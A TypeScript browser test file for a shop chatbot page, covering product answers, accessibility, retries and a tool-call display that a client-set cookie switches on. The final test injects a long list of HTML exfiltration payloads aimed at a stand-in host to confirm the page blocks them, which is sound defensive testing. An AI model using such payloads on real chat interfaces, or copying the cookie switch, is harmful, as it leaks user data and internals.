import { expect, test } from 'vitest'
import { accessibilityProblems } from './support/accessibility.ts'
import { setStage } from './support/stage.ts'

const stage = setStage()

const ADDRESS = '/#/chatbot/conversation/1'
const window = () => stage.page.locator('#chat-window')

async function say(text: string): Promise<void> {
  await stage.page.fill('#message-input', text)
  await stage.page.press('#message-input', 'Enter')
}

/** Waits until the answer is complete: then the input offers to start a new conversation. */
async function answered(): Promise<void> {
  await stage.page.getByRole('button', { name: 'Start anew' }).waitFor()
}

test('answers a guest who asks for a juice with a card that links to it', async () => {
  const { page, shop } = stage
  await page.goto(shop.url + ADDRESS)
  await page.getByRole('button', { name: 'Do you have apple juice?' }).click()
  await answered()
  expect(await window().textContent()).toContain('Looking through the shelves…')
  // Arguments of tool calls are hidden from users who may not see them.
  expect(await window().locator('details').count()).toBe(0)
  const failures: string[] = []
  for (const width of [390, 1440])
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.setViewportSize({ width, height: 800 })
      await page.emulateMedia({ colorScheme })
      // Colours change in a transition, so the page is reloaded. The conversation is still there.
      await page.reload()
      await window()
        .getByRole('link', { name: /Apple Juice/ })
        .first()
        .waitFor()
      failures.push(...(await accessibilityProblems(page)))
      expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0)
    }
  expect(failures).toEqual([])
  await window()
    .getByRole('link', { name: /Apple Juice/ })
    .first()
    .click()
  await page
    .getByRole('dialog')
    .getByText(/Apple Juice/)
    .first()
    .waitFor()
  await page.goBack()
  await page.getByRole('button', { name: 'Start anew' }).click()
  await page.getByRole('button', { name: 'Do you have apple juice?' }).waitFor()
})

test('retries an answer that failed or was stopped', async () => {
  const { page, shop } = stage
  await page.goto(shop.url + ADDRESS)
  let tries = 0
  await page.route('**/rest/chat', (route) =>
    tries++ === 0 ? route.abort() : tries === 2 ? undefined : route.continue(),
  )
  await say('Do you have apple juice?')
  await page.getByRole('alert').waitFor()
  await page.getByRole('button', { name: 'Try again' }).click()
  // This request never gets a response.
  await page.getByRole('button', { name: 'Stop' }).click()
  await window().getByText('Stopped.').waitFor()
  await page.getByRole('button', { name: 'Try again' }).click()
  await window()
    .getByRole('link', { name: /Apple Juice/ })
    .first()
    .waitFor()
  await answered()
  expect(await window().getByText('Do you have apple juice?').count()).toBe(1)
})

test('shows the arguments of tool calls, after the switch on the administration page or with a cookie that anyone can set', async () => {
  const { page, shop, context } = stage
  await context.addCookies([{ name: 'show_tool_calls', value: 'true', url: shop.url }])
  await page.goto(shop.url + ADDRESS)
  await say('Do you have apple juice?')
  await window()
    .locator('details')
    .getByText(/searchProducts \{/)
    .waitFor()
  await answered()
})

test('loads nothing from outside the shop and runs no script, regardless of the content of an answer', async () => {
  const { page, shop } = stage
  const asked: string[] = []
  const sent: string[] = []
  page.on('request', (request) => asked.push(request.url()))
  // Requests that the Content Security Policy blocks do not reach this handler.
  await page.route(
    (url) => url.hostname === 'elsewhere.test' || url.pathname === '/redirect',
    (route) => {
      sent.push(route.request().url())
      return route.abort()
    },
  )
  const outside = 'https://elsewhere.test/take'
  const answer = `Look: <img src="${outside}?a=1"><img src="//elsewhere.test/b"><img srcset="${outside}?c 1x">
<video poster="${outside}?d" src="${outside}?e" autoplay></video><audio src="${outside}?f" autoplay></audio>
<iframe src="${outside}?g"></iframe><object data="${outside}?h"></object><embed src="${outside}?i">
<link rel="stylesheet" href="${outside}?j"><link rel="preconnect" href="https://elsewhere.test"><style>@import '${outside}?k'; body { background: url('${outside}?l') }</style>
<p style="background: url('${outside}?m')">Text</p><svg><image href="${outside}?n"></image><use href="${outside}?o"></use></svg>
<meta http-equiv="refresh" content="0;url=${outside}?p"><base href="https://elsewhere.test/"><img src="take?q">
<input type="image" src="${outside}?r"><table background="${outside}?s"><tr><td>1</td></tr></table>
<form action="${outside}?t"><button autofocus>Go</button></form><a href="${outside}?u" ping="${outside}?v">Away</a>
<img src="/redirect?to=${outside}"><img src=x onerror="fetch('${outside}?w')"><script>fetch('${outside}?x')</script><iframe srcdoc="&lt;img src='${outside}?y'&gt;"></iframe>`
  await page.route('**/rest/chat', (route) =>
    route.fulfill({
      contentType: 'text/event-stream',
      body: `data: ${JSON.stringify({ choices: [{ delta: { content: answer } }] })}\n\ndata: [DONE]\n\n`,
    }),
  )
  await page.goto(shop.url + ADDRESS)
  await say('hello')
  await answered()
  const frame = page.locator('#chat-window iframe')
  await frame.contentFrame().getByText('Text').waitFor({ state: 'attached' })
  await expect.poll(() => asked.some((url) => url.includes('/internet/elsewhere.test/take?a=1'))).toBe(true)
  // Nothing is left to load, and a click on the frame navigates nowhere.
  await page.waitForLoadState('networkidle')
  await frame.click({ force: true, position: { x: 5, y: 5 } })
  expect(sent).toEqual([])
  expect(page.url()).toBe(shop.url + ADDRESS)
  expect(await accessibilityProblems(page)).toEqual([])
})
